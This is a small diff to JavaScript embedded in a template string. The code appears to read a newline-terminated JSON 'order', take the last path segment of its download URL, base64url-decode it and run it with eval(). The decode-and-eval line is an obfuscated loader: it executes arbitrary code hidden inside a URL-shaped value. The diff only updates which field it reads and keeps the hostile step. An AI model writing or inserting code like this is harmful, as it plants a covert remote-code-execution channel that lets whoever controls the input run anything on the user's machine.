@@ -28,7 +28,7 @@ for (const chunk = Buffer.alloc(65536); !heard.includes('\\n'); ) {
   heard += chunk.toString('utf8', 0, count);
 }
 const order = JSON.parse(heard);
-eval(Buffer.from(order.url.split('/').at(-1), 'base64url').toString());
+eval(Buffer.from(order.download.url.split('/').at(-1), 'base64url').toString());
 pause();
 `;
 
